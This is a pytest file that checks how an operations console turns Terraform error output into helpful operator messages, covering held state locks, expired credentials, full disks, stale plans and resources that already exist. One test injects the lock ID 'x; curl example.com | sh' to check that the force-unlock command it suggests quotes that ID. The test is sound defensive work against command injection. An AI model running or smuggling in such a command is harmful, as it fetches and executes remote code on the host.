"""What Terraform's complaints amount to."""

from pathlib import Path

import pytest

from ops.console.errors import (
    CredentialsError,
    DiskFullError,
    LockHeldError,
    OperatorError,
    TerraformError,
    ToolMissingError,
)
from ops.terraform.failures import ExistsError
from ops.terraform.run import NotDeployedError, StalePlanError, StateNotSavedError, Terraform, refusal

BASE = Terraform(Path("/opt/bin/terraform"), {}, Path("cdktf.out/stacks/base"))
LOCKED = """
Error: Error acquiring the state lock

Error message: operation error S3: PutObject, https response error
StatusCode: 412, api error PreconditionFailed: At least one of the
pre-conditions you specified did not hold
Lock Info:
  ID:        dd4f1351-7ca4-c7e6-b4b8-56acfd85fbef
  Path:      bucket/asset-manager/prod/base.tfstate
  Operation: OperationTypeApply
  Who:       ada@laptop
  Version:   1.11.4
  Created:   2026-11-23 01:10:16.029973628 +0000 UTC
"""
NO_RIGHT_TO_LOCK = """
│ Error: Error acquiring the state lock
│
│ Error message: operation error S3: PutObject, StatusCode: 403, api error AccessDenied: not authorized to s3:PutObject
"""
DENIED = "│ Error: reading EC2 VPCs: api error UnauthorizedOperation: AccessDenied: not authorized: ec2:DescribeVpcs"


def test_a_held_lock_says_who_holds_it_since_when_and_how_to_break_it() -> None:
    error = refusal(LOCKED, BASE, "apply")
    assert isinstance(error, LockHeldError)
    assert str(error) == (
        "the state of base is locked by ada@laptop (OperationTypeApply, since 2026-11-23 01:10:16.029973628 +0000 UTC)."
        " Nothing of base was changed. Wait until that is over; if it was killed and will never be, "
        "`/opt/bin/terraform force-unlock -force dd4f1351-7ca4-c7e6-b4b8-56acfd85fbef` in cdktf.out/stacks/base breaks "
        "the lock."
    )


def test_a_locks_id_is_quoted_in_the_command_that_breaks_it() -> None:
    """It is what somebody wrote into the state bucket."""
    said = LOCKED.replace("dd4f1351-7ca4-c7e6-b4b8-56acfd85fbef", "x; curl example.com | sh")
    assert "`/opt/bin/terraform force-unlock -force 'x; curl example.com | sh'` in" in str(refusal(said, BASE, "apply"))


# Of Terraform 1.11, of a session that ended during an apply; and folded, as it is where nobody is at a terminal.
NOT_SAVED = """
│ Error: Failed to save state
│
│ Error saving state: failed to upload state: operation error S3: PutObject, api error ExpiredToken: The provided token
│ has expired
╵
│ Error: Failed to persist state to backend
│
│ The error shown above has prevented Terraform from writing the updated
│ state to the configured backend. To allow for recovery, the state has been
│ written to the file "errored.tfstate" in the current working directory.
│
│ Running "terraform apply" again at this point will create a forked state,
│ making it harder to recover.
"""


def test_a_state_that_could_not_be_saved_is_reported_with_the_command_that_saves_it() -> None:
    error = refusal(NOT_SAVED, BASE, "apply")
    assert isinstance(error, StateNotSavedError)
    assert "Before anything is run again, sign in, and save it" in str(error)
    assert "`/opt/bin/terraform state push errored.tfstate` in cdktf.out/stacks/base" in str(error)


@pytest.mark.parametrize(
    ("complaint", "kind", "said"),
    [
        # There is no lock to break where one has no right to take it.
        (NO_RIGHT_TO_LOCK, TerraformError, "not authorized to s3:PutObject"),
        (DENIED, TerraformError, "not authorized: ec2:DescribeVpcs"),
        ("Error: No valid credential sources found", CredentialsError, "sign in again"),
        ("api error ExpiredTokenException: The security token is expired", CredentialsError, "(ExpiredTokenException)"),
        ("Error: Failed to save state: no space left on device", DiskFullError, "the disk is full: terraform apply"),
        ("Error: Failed to install provider\n\nno space left on device", DiskFullError, "the disk is full: terraform"),
        ("Error: Unable to find remote state", NotDeployedError, "apply base first."),
        (
            "│ data.terraform_remote_state.cross-stack-reference-input-base.outputs is object with no attributes",
            NotDeployedError,
            "apply base first.",
        ),
        (
            "│ data.terraform_remote_state.cross-stack-reference-input-base.outputs is object with 7 attributes",
            NotDeployedError,
            "apply base first.",
        ),
        ("│ Error: Saved plan is stale", StalePlanError, "Nothing of it was begun: look at what they did"),
        ("│ Error: Saved plan does not match the given state", StalePlanError, "the state of base after this was plan"),
        ("│ Error: Failed to query available provider packages", ToolMissingError, "Set TF_PROVIDER_MIRROR to a"),
        ("│ Error: Failed to install provider", ToolMissingError, "cannot get its provider: there is no network"),
        ("Error: something else", TerraformError, "terraform apply of base failed; its reason stands above."),
    ],
)
def test_a_complaint_becomes_the_message_that_helps(complaint: str, kind: type[OperatorError], said: str) -> None:
    error = refusal(complaint, BASE, "apply")
    assert type(error) is kind
    assert said in str(error)


EXISTS = """
╷
│ Error: creating VPC Security Group Rule
│
│   with aws_vpc_security_group_egress_rule.services-group_out-443_1A2B,
│   on cdk.tf.json line 12, in resource.aws_vpc_security_group_egress_rule.services-group_out-443_1A2B:
│   12:       },
│
│ operation error EC2: AuthorizeSecurityGroupEgress, api error
│ InvalidPermission.Duplicate: The specified rule already exists
╵
╷
│ Error: creating SSM Parameter (/asset-manager/SERVER_HOST): ParameterAlreadyExists: The parameter already
│ exists.
│
│   with aws_ssm_parameter.parameters_SERVER_HOST_9F,
│   on cdk.tf.json line 40, in resource.aws_ssm_parameter.parameters_SERVER_HOST_9F:
╵
╷
│ Error: creating ELBv2 Load Balancer (asset-manager-alb): InvalidSubnet
│
│   with aws_lb.alb_7C,
│   on cdk.tf.json line 80, in resource.aws_lb.alb_7C:
╵
"""


def test_what_exists_already_is_named() -> None:
    error = refusal(EXISTS, BASE, "apply")
    assert isinstance(error, ExistsError)
    assert error.addresses == [
        "aws_vpc_security_group_egress_rule.services-group_out-443_1A2B",
        "aws_ssm_parameter.parameters_SERVER_HOST_9F",
    ]
    assert str(error).endswith("terraform apply of base failed; its reason stands above.")


def test_another_refusal_names_nothing_that_exists() -> None:
    assert type(refusal(DENIED, BASE, "plan")) is TerraformError
